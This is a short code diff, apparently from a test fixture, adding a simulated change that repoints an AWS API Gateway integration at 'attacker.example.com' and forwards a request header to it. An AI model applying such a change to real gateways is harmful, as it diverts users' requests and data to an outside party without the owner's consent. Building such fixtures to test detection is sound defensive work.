@@ -26,6 +26,15 @@ CHANGES = [
         {"restApiId": "${self.rest_api_id}", "resourceId": "${self.resource_id}",
          "httpMethod": "GET"},
     ),
+    Change(
+        "aws_api_gateway_integration.home", "uri", "apigateway", "put_integration",
+        {"restApiId": "${self.rest_api_id}", "resourceId": "${self.resource_id}",
+         "httpMethod": "GET", "type": "HTTP_PROXY", "integrationHttpMethod": "GET",
+         "uri": "https://attacker.example.com/", "connectionType": "INTERNET",
+         "timeoutInMillis": 29000,
+         "requestParameters": {
+             "integration.request.header.x-shop": "method.request.header.x-shop"}},
+    ),
 ]  # fmt: skip
 
 GROUP = Group("apigw", CHANGES)
